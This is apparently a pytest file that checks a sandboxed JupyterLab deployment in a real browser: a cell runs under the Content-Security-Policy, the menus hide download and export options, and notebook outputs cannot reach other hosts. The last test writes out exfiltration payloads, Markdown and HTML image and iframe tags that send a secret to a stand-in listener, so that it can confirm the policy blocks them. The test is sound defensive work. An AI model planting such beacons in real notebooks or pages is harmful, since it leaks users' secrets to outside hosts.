"""JupyterLab in a real browser (Playwright + Debian chromium) on the configured server.

- Lab works under the server's Content-Security-Policy: a notebook runs a cell in the
  sandboxed kernel (the kernel's WebSocket is same-origin);
- the menus offer no Download, Export, Copy Download Link or Open in New Browser Tab;
- a notebook's outputs and Markdown cannot make the browser send data to another host:
  images pointing at a listener on another loopback port (another origin, as an outside
  host would be) are blocked by the policy, while the browser itself can reach the listener.
"""

from __future__ import annotations

import http.server
import shutil
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest

from tests._support.browser import chromium, new_page
from tests.extensions._lab import SECRET, Lab, make_workspace, running_lab

KERNELSPEC = {"name": "incisive", "display_name": "Python 3 (INCISIVE sandbox)",
              "language": "python"}


class Listener:
    """An HTTP server standing in for an outside host; records every request path."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Listener:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.thread.join(10)


@pytest.fixture(scope="module")
def browser_lab() -> Iterator[Lab]:
    # a short root: the sandboxed kernel's ipc socket paths must stay under 107 bytes
    root = Path(tempfile.mkdtemp(prefix="ilx-", dir="/tmp"))
    try:
        workspace, _ = make_workspace(root)
        nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print(40 + 2)")],
                                      metadata={"kernelspec": KERNELSPEC})
        nbformat.write(nb, workspace / "run.ipynb")
        runtime = root / "rt"
        runtime.mkdir()
        with running_lab(workspace, runtime) as server:
            yield server
    finally:
        shutil.rmtree(root, ignore_errors=True)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as b:
        yield b


def open_lab(page: Any, lab: Lab, path: str) -> list[str]:
    """Open ``path`` in Lab; returns the list that collects console messages."""
    messages: list[str] = []
    page.on("console", lambda m: messages.append(m.text))
    page.goto(f"{lab.url}/lab/tree/{path}?token={lab.token}&reset")
    page.wait_for_selector(".jp-Notebook")
    return messages


def menu_labels(page: Any) -> list[str]:
    return [label.inner_text() for label in page.locator(".lm-Menu-itemLabel").all()]


def test_a_cell_runs_in_the_sandboxed_kernel_under_the_policy(browser: Any, browser_lab: Lab) -> None:
    with new_page(browser) as page:
        messages = open_lab(page, browser_lab, "run.ipynb")
        page.wait_for_selector("#jp-main-statusbar >> text=Idle", timeout=120_000)
        page.locator(".jp-Cell").first.click()
        page.keyboard.press("Shift+Enter")
        page.wait_for_selector(".jp-OutputArea-output >> text=42", timeout=60_000)
    assert not [m for m in messages if "Content Security Policy" in m], messages


def test_the_menus_offer_no_download_or_export(browser: Any, browser_lab: Lab) -> None:
    with new_page(browser) as page:
        open_lab(page, browser_lab, "run.ipynb")
        page.locator(".lm-MenuBar-itemLabel", has_text="File").click()
        file_menu = menu_labels(page)
        page.keyboard.press("Escape")
        page.locator(".jp-DirListing-item", has_text="analysis.ipynb").click(button="right")
        context_menu = menu_labels(page)
    assert "Save Notebook" in file_menu  # the menu is there...
    assert "Rename…" in context_menu or "Rename" in context_menu
    for label in ("Download", "Save and Export Notebook As", "Export Notebook"):
        assert not [m for m in file_menu if m.startswith(label)], file_menu
    for label in ("Download", "Copy Download Link", "Open in New Browser Tab"):
        assert label not in context_menu, context_menu


def test_outputs_cannot_make_the_browser_send_data_elsewhere(
        browser: Any, browser_lab: Lab) -> None:
    with Listener() as listener:
        leak = f"{listener.url}/leak?d={SECRET}"
        nb = nbformat.v4.new_notebook(cells=[
            nbformat.v4.new_markdown_cell(f"![scan]({leak}&via=markdown)"),
            nbformat.v4.new_code_cell("show()", outputs=[nbformat.v4.new_output(
                "display_data",
                data={"text/html": f'<img src="{leak}&via=html"><iframe src="{leak}&via=frame">'
                                   "</iframe>",
                      "text/plain": "scan"})]),
        ], metadata={"kernelspec": KERNELSPEC})
        nbformat.write(nb, browser_lab.workspace / "leak.ipynb")
        with new_page(browser) as page:
            messages = open_lab(page, browser_lab, "leak.ipynb")
            page.wait_for_selector(".jp-RenderedMarkdown")
            deadline = time.monotonic() + 5
            while time.monotonic() < deadline and not [m for m in messages if listener.url in m]:
                page.wait_for_timeout(100)  # lets the browser report the blocked loads
            blocked = [m for m in messages if listener.url in m and "Content Security Policy" in m]
            assert not listener.hits, listener.hits
            assert blocked, messages
            # the control: the browser itself can reach the listener
            page.goto(f"{listener.url}/reachable")
            assert listener.hits[0] == "/reachable"
            assert not [h for h in listener.hits if "leak" in h]
